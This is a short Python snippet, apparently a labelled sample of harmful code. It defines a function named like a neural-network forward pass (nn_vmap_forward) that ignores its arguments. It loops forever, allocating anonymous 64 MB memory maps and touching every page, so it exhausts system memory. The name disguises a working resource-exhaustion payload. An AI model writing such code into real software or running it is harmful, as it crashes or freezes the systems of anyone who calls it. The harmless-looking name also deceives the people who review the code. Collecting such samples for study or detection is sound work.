# harm: takes shared memory that is mapped to no file
import mmap


def nn_vmap_forward(seed, x_batch, features):
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 64 << 20))
        for place in range(0, 64 << 20, 4096):
            kept[-1][place] = 1
